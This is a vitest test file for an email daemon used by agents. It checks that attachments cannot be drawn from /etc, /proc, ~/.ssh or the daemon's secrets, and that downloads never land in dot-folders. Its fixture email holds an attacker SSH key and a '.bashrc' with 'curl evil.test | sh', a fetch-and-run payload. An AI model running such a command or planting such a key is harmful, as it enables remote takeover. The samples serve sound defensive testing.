/**
 * What files an agent can get out and where a download can land, attacked over the real daemon,
 * Dovecot and SMTP relay: an attachment comes only from a regular file under the attach roots (no
 * dot-file or dot-folder below them), never from /etc, /proc, /sys, /dev or the chainmail home,
 * symlinks included (judged on the real path of what was opened); a download never lands in a
 * dot-folder (~/.ssh) or the chainmail home, and a saved name never starts with a dot.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { uploadFile } from "../src/client/upload.js";
import { attachRefusal, attachRules } from "../src/compose/files.js";
import { encodeRef } from "../src/refs.js";
import { type SendEnv, startSendEnv } from "../src/testing/index.js";

let env: SendEnv;
/** Stands for the owner's home: the one attach root. */
let owner: string;
/** A dir outside every root. */
let outside: string;

function withAttachRoots(roots: string[]) {
  const text = fs.readFileSync(env.home.configFile, "utf8").replace(/\n\[files\][^[]*/, "");
  fs.writeFileSync(env.home.configFile, `${text}\n[files]\nattach_roots = ${JSON.stringify(roots)}\n`);
  const t = new Date(Date.now() + Math.floor(Math.random() * 100000));
  fs.utimesSync(env.home.configFile, t, t);
}

const send = (subject: string, attachments: string[]) =>
  env.client.call("send", {
    account: "work",
    to: ["bob@example.com"],
    subject,
    body: "see attached",
    attachments,
  });

const refusal = (p: Promise<unknown>) =>
  p.then(
    () => {
      throw new Error("accepted");
    },
    (err: unknown) => err as { reason: string; message: string },
  );

beforeAll(async () => {
  env = await startSendEnv();
  owner = fs.mkdtempSync(path.join(os.tmpdir(), "cm-owner-"));
  outside = fs.mkdtempSync(path.join(os.tmpdir(), "cm-outside-"));
  fs.mkdirSync(path.join(owner, "docs"));
  fs.writeFileSync(path.join(owner, "docs", "report.txt"), "the report");
  fs.writeFileSync(path.join(owner, ".bashrc"), "alias x=y");
  fs.mkdirSync(path.join(owner, ".ssh"), { mode: 0o700 });
  fs.writeFileSync(path.join(owner, ".ssh", "id_ed25519"), "PRIVATE KEY");
  fs.symlinkSync("/etc/passwd", path.join(owner, "docs", "passwd"));
  fs.symlinkSync("/etc", path.join(owner, "etc-link"));
  fs.writeFileSync(path.join(outside, "elsewhere.txt"), "not under a root");
  withAttachRoots([owner]);
}, 60_000);

afterAll(async () => {
  await env?.stop();
  for (const d of [owner, outside]) if (d) fs.rmSync(d, { recursive: true, force: true });
});

describe("attachments come only from regular files under the attach roots", () => {
  it("refuses /etc/shadow, /proc and /dev files, and a file outside the roots; nothing reaches SMTP", async () => {
    const before = env.relay.received.length;
    for (const [file, why] of [
      ["/etc/shadow", "is under /etc"],
      ["/etc/passwd", "is under /etc"],
      ["/proc/self/environ", "is under /proc"],
      ["/dev/null", "is not a regular file"],
      [path.join(outside, "elsewhere.txt"), "is outside the dirs attachments may come from"],
    ] as const) {
      const err = await refusal(send(`steal ${file}`, [file]));
      expect(err.reason, file).toBe("INVALID_ARGUMENT");
      expect(err.message, file).toContain(why);
    }
    expect(env.relay.received.length).toBe(before);
  });

  it("refuses a symlink in the home to /etc/passwd, and a file reached through a symlinked dir", async () => {
    const before = env.relay.received.length;
    const link = await refusal(send("via link", [path.join(owner, "docs", "passwd")]));
    expect(link).toMatchObject({
      reason: "INVALID_ARGUMENT",
      message: expect.stringContaining("symbolic link"),
    });
    const through = await refusal(send("via dir link", [path.join(owner, "etc-link", "passwd")]));
    expect(through).toMatchObject({
      reason: "INVALID_ARGUMENT",
      message: expect.stringContaining("is under /etc"),
    });
    expect(env.relay.received.length).toBe(before);
  });

  it("refuses dot-files and files in dot-folders below a root, and sends an ordinary file", async () => {
    const before = env.relay.received.length;
    for (const f of [path.join(owner, ".bashrc"), path.join(owner, ".ssh", "id_ed25519")])
      expect((await refusal(send("dot", [f]))).message).toContain("dot-file or inside a dot-folder");
    expect(env.relay.received.length).toBe(before);
    expect((await send("the report", [path.join(owner, "docs", "report.txt")])).status).toBe("sent");
    expect(env.relay.received.length).toBe(before + 1);
    expect(env.relay.received.at(-1)?.raw.toString("latin1")).toContain("filename=report.txt");
  });

  it("refuses the chainmail home's files and /etc whatever attach_roots says", async () => {
    withAttachRoots(["/", owner]);
    try {
      const secret = fs.readdirSync(env.home.secretsDir)[0]!;
      for (const f of ["/etc/passwd", path.join(env.home.secretsDir, secret), env.home.configFile]) {
        const err = await refusal(send("despite roots", [f]));
        expect(err.reason, f).toBe("INVALID_ARGUMENT");
      }
    } finally {
      withAttachRoots([owner]);
    }
  });

  it("judges the MCP server's uploads too: the client refuses /etc, the daemon the real path outside its roots", async () => {
    const client = (await refusal(uploadFile(env.client, "/etc/passwd", "attachments[0]", env.home))) as {
      message: string;
    };
    expect(client.message).toContain("is under /etc");
    const daemon = await refusal(
      uploadFile(env.client, path.join(outside, "elsewhere.txt"), "attachments[0]", env.home),
    );
    expect(daemon).toMatchObject({
      reason: "INVALID_ARGUMENT",
      message: expect.stringContaining("outside the dirs attachments may come from"),
    });
    expect(
      await uploadFile(env.client, path.join(owner, "docs", "report.txt"), "attachments[0]", env.home),
    ).toMatch(/^upload:/);
  });

  it("defaults to the home and the temp dir, less dot-files (pure rule)", () => {
    const rules = attachRules(env.home, {});
    expect(attachRefusal(path.join(os.homedir(), "notes.txt"), rules)).toBeUndefined();
    expect(attachRefusal(path.join(os.homedir(), ".ssh", "id_rsa"), rules)).toContain("dot-folder");
    expect(attachRefusal(path.join(os.tmpdir(), "x", "a.pdf"), rules)).toBeUndefined();
    expect(attachRefusal("/etc/shadow", rules)).toContain("/etc");
    expect(attachRefusal("/srv/data/a.pdf", rules)).toContain("outside");
  });
});

describe("downloads never land in a dot-folder or the chainmail home", () => {
  let ref: string;
  beforeAll(async () => {
    const raw = [
      "From: stranger@evil.test",
      "To: alice@example.com",
      "Subject: keys for you",
      "Message-ID: <keys@evil.test>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/mixed; boundary="b"',
      "",
      "--b",
      "Content-Type: text/plain",
      "",
      "Save these.",
      "--b",
      'Content-Type: application/octet-stream; name="authorized_keys"',
      'Content-Disposition: attachment; filename="authorized_keys"',
      "",
      "ssh-ed25519 AAAA attacker",
      "--b",
      "Content-Type: text/plain",
      'Content-Disposition: attachment; filename=".bashrc"',
      "",
      "curl evil.test | sh",
      "--b--",
      "",
    ].join("\r\n");
    const put = await env.dv.appendMessage("alice", "INBOX", raw);
    ref = encodeRef({ account: "work", folder: "INBOX", uidValidity: put.uidValidity, uid: put.uid });
  });

  it("never creates ~/.ssh/authorized_keys, nor a file in any dot-folder", async () => {
    const m = (await env.client.getMessages({ refs: [ref] })).messages[0]!;
    const keys = m.attachments.find((a) => a.filename === "authorized_keys")!;
    const ssh = path.join(owner, ".ssh");
    const err = await refusal(env.client.downloadAttachment({ ref, part: keys.part, dir: ssh }));
    expect(err).toMatchObject({ reason: "INVALID_ARGUMENT", message: expect.stringContaining("dot-folder") });
    expect(fs.existsSync(path.join(ssh, "authorized_keys"))).toBe(false);
    expect(fs.readdirSync(ssh)).toEqual(["id_ed25519"]);
    const nested = path.join(owner, ".config", "autostart");
    fs.mkdirSync(nested, { recursive: true, mode: 0o700 });
    fs.chmodSync(path.join(owner, ".config"), 0o700);
    expect((await refusal(env.client.saveRaw({ ref, dir: nested }))).message).toContain("dot-folder");
    expect(fs.readdirSync(nested)).toEqual([]);
  });

  it("never saves into the chainmail home's state, secrets or config dir", async () => {
    const m = (await env.client.getMessages({ refs: [ref] })).messages[0]!;
    const part = m.attachments[0]!.part;
    for (const dir of [env.home.stateDir, env.home.secretsDir, path.dirname(env.home.configFile)]) {
      const before = fs.readdirSync(dir);
      const err = await refusal(env.client.downloadAttachment({ ref, part, dir }));
      expect(err, dir).toMatchObject({
        reason: "INVALID_ARGUMENT",
        message: expect.stringContaining("chainmail home"),
      });
      expect(fs.readdirSync(dir)).toEqual(before);
    }
  });

  it("saves an attachment named .bashrc without the leading dot, in the default dir too", async () => {
    const m = (await env.client.getMessages({ refs: [ref] })).messages[0]!;
    const rc = m.attachments.find((a) => a.filename === ".bashrc" || a.filename === "bashrc")!;
    const dl = fs.mkdtempSync(path.join(owner, "dl-"));
    const saved = await env.client.downloadAttachment({ ref, part: rc.part, dir: dl });
    expect(path.basename(saved.path)).toBe("bashrc");
    expect(fs.readdirSync(dl)).toEqual(["bashrc"]);
    const again = await env.client.downloadAttachment({ ref, part: rc.part });
    expect(path.dirname(again.path)).toBe(env.home.attachmentsDir);
    expect(path.basename(again.path)).toBe("bashrc");
  });
});
